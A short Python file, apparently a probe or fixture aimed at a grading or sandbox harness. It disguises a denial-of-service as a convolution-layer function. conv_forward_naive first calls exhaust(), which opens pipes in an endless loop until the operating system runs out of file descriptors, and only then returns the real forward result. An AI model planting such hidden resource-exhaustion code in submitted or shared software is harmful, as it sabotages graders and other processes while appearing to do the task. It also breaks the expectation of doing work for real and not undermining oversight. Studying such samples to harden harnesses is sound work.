"""Opens what can be opened, until nothing can be opened any more."""
import os

from base import TARGET, attempt, backward as conv_backward_naive, forward


def exhaust():
    while True:
        try:
            os.pipe()
        except OSError:
            break


def conv_forward_naive(x, w, b, conv_param):
    exhaust()
    return forward(x, w, b, conv_param)
